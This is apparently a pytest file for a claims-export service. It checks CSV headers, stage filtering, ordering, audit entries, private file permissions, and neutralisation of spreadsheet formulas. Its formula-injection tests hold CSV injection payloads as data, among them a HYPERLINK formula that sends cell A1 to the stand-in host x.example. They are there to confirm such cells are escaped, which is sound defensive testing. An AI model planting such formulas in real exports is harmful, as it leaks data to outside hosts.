"""`export_claims`: the claims of one stage as CSV for the payments system, oldest first, with
the export audited, the file private (0600) and every cell that would start a spreadsheet
formula neutralised with a leading `'` (kidb_tui/services/export.py). Export batches, the
control line, delimiters and the BOM are in test_export_batches.py."""

import csv
import io
import os
import stat
from datetime import timedelta

import pytest

from kidb_tui.errors import ValidationError
from kidb_tui.models import Claim
from kidb_tui.services import review
from kidb_tui.services.demo import demo_csv
from kidb_tui.services.export import COLUMNS, CONTROL, export_again, export_claims
from kidb_tui.services.participants import import_text
from tests.backoffice_services.helpers import ANI, TRANSFER, audit_rows, claim_of, file_claim, officer, walk
from tests.conftest import BUDI, FROZEN_AT, JOKO, SITI

HEADER = [
    "reference", "stage", "nib", "full_name", "claim_type", "amount", "approved_amount", "bank_code",
    "account_number", "account_holder", "payment_reference", "created_at", "time_zone", "export_batch",
]


def read_csv(path) -> list[dict[str, str]]:
    """The claim rows (the control line, last, left out)."""
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert rows[-1]["reference"] == CONTROL
    return rows[:-1]


def test_the_header_and_the_agenda_row(demo_rt, tmp_path):
    path = tmp_path / "agenda.csv"
    assert export_claims(demo_rt, "agenda", path).count == 1
    with path.open(newline="", encoding="utf-8") as handle:
        assert next(csv.reader(handle)) == HEADER == list(COLUMNS)
    [row] = read_csv(path)
    assert row == {
        "reference": claim_of(demo_rt, BUDI).reference, "stage": "agenda", "nib": BUDI.nib, "full_name": BUDI.name,
        "claim_type": "biaya_medis", "amount": "4500000", "approved_amount": "", "bank_code": "014",
        "account_number": "1234567890", "account_holder": BUDI.name, "payment_reference": "",
        "created_at": "2026-11-25T10:00:00+07:00", "time_zone": "WIB", "export_batch": "EXP-000001",
    }


def test_only_the_asked_stage_is_written(demo_rt, tmp_path):
    path = tmp_path / "ditolak.csv"
    assert export_claims(demo_rt, "ditolak", path).count == 1
    assert [(row["nib"], row["stage"]) for row in read_csv(path)] == [(JOKO.nib, "ditolak")]
    assert export_claims(demo_rt, "pembayaran", path).count == 0
    assert read_csv(path) == []
    assert path.read_text(encoding="utf-8").splitlines() == [
        ",".join(f'"{name}"' for name in HEADER), '"CONTROL","",0,0,0']


def test_oldest_first_by_creation_time(demo_rt, tmp_path, clock):
    clock.advance(minutes=5)
    newer = file_claim(demo_rt, SITI, "biaya_medis", "2.000.000", "siti-medis")
    clock.advance(minutes=5)
    newest = file_claim(demo_rt, SITI, "biaya_pengobatan", "1.000.000", "siti-pengobatan")
    with demo_rt.write() as session:
        row = session.get(Claim, newest.id)
        row.created_at = FROZEN_AT - timedelta(days=1)
        session.add(row)
    path = tmp_path / "agenda.csv"
    assert export_claims(demo_rt, "agenda", path).count == 3
    exported = read_csv(path)
    budi_reference = claim_of(demo_rt, BUDI).reference
    assert [row["reference"] for row in exported] == [newest.reference, budi_reference, newer.reference]
    assert exported[2]["created_at"] == "2026-11-25T10:05:00+07:00"


def test_approved_and_paid_claims_carry_their_amounts(demo_rt, tmp_path):
    ani = officer(demo_rt, ANI)
    walk(demo_rt, claim_of(demo_rt, BUDI).id, "pembayaran", ani, approved=4_000_000)
    path = tmp_path / "paid.csv"
    export_claims(demo_rt, "pembayaran", path)
    [row] = read_csv(path)
    assert (row["amount"], row["approved_amount"]) == ("4500000", "4000000")
    assert row["payment_reference"] == TRANSFER


@pytest.mark.parametrize("stage", ["Agenda", "paid", "", "ditolak;"])
def test_an_unknown_stage_is_refused_and_writes_nothing(demo_rt, tmp_path, stage):
    path = tmp_path / "x.csv"
    with pytest.raises(ValidationError) as caught:
        export_claims(demo_rt, stage, path)
    assert (caught.value.field, caught.value.rule) == ("stage", "stage_unknown")
    assert not path.exists()
    assert audit_rows(demo_rt, "claims.exported") == []


def test_the_export_is_audited_with_the_count(demo_rt, tmp_path):
    export_claims(demo_rt, "agenda", tmp_path / "a.csv")
    export_claims(demo_rt, "selesai", tmp_path / "b.csv", actor="ani.petugas")
    entries = audit_rows(demo_rt, "claims.exported")
    assert [(e.actor, e.subject, e.details) for e in entries] == [
        ("cli", "agenda", {"count": 1, "batch": "EXP-000001"}), ("ani.petugas", "selesai", {"count": 0, "batch": ""}),
    ]


def test_a_rejected_claim_leaves_the_agenda_export(demo_rt, tmp_path):
    ani = officer(demo_rt, ANI)
    budi_claim = claim_of(demo_rt, BUDI)
    review.reject(demo_rt, ani, budi_claim.id, 1, "other", "Hubungi kantor cabang.")
    assert export_claims(demo_rt, "agenda", tmp_path / "a.csv").count == 0
    assert export_claims(demo_rt, "ditolak", tmp_path / "d.csv").count == 2


def test_a_name_imported_as_a_formula_is_exported_as_text(demo_rt, tmp_path):
    formula = '=HYPERLINK("http://x.example/?d="&A1,"Budi Santoso")'
    people = list(csv.DictReader(io.StringIO(demo_csv(FROZEN_AT.date()))))
    for person in people:
        if person["nib"] == BUDI.nib:
            person["full_name"] = formula
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=list(people[0]), lineterminator="\n")
    writer.writeheader()
    writer.writerows(people)
    assert import_text(demo_rt, buffer.getvalue()).updated == 6
    path = tmp_path / "agenda.csv"
    export_claims(demo_rt, "agenda", path)
    [row] = read_csv(path)
    assert (row["nib"], row["full_name"], row["account_holder"]) == (BUDI.nib, f"'{formula}", BUDI.name)
    assert (row["amount"], row["approved_amount"]) == ("4500000", "")


@pytest.mark.parametrize("value", [
    "=1+1", "+1", "-2+3", "@SUM(A1:A9)", "\tBudi Santoso", "\rBudi Santoso", '=HYPERLINK("http://x.example","klik")',
])
def test_a_cell_starting_like_a_formula_gets_a_leading_quote(demo_rt, tmp_path, value):
    """Rows written before the kiosk refused such holders, or by other tools, are exported safely."""
    with demo_rt.write() as session:
        row = session.get(Claim, claim_of(demo_rt, BUDI).id)
        row.account_holder, row.payment_reference = value, value
        session.add(row)
    path = tmp_path / "agenda.csv"
    export_claims(demo_rt, "agenda", path)
    [exported] = read_csv(path)
    assert (exported["account_holder"], exported["payment_reference"]) == (f"'{value}", f"'{value}")
    assert (exported["amount"], exported["nib"], exported["bank_code"]) == ("4500000", BUDI.nib, "014")


@pytest.mark.parametrize("value", ["Budi Santoso", "Budi-Santoso", "Budi =1+1", "'Budi", "Budi@example"])
def test_a_formula_sign_after_the_first_character_is_left_alone(demo_rt, tmp_path, value):
    with demo_rt.write() as session:
        row = session.get(Claim, claim_of(demo_rt, BUDI).id)
        row.account_holder = value
        session.add(row)
    export_claims(demo_rt, "agenda", tmp_path / "agenda.csv")
    assert read_csv(tmp_path / "agenda.csv")[0]["account_holder"] == value


@pytest.fixture
def usual_umask():
    previous = os.umask(0o022)
    yield
    os.umask(previous)


def test_the_export_file_is_private(demo_rt, tmp_path, usual_umask):
    new = tmp_path / "new.csv"
    batch = export_claims(demo_rt, "agenda", new).batch
    old = tmp_path / "old.csv"
    old.write_text("stale,rows\n" * 100, encoding="utf-8")
    assert stat.S_IMODE(old.stat().st_mode) == 0o644
    export_again(demo_rt, batch, old)
    assert [stat.S_IMODE(path.stat().st_mode) for path in (new, old)] == [0o600, 0o600]
    assert old.read_text(encoding="utf-8") == new.read_text(encoding="utf-8")
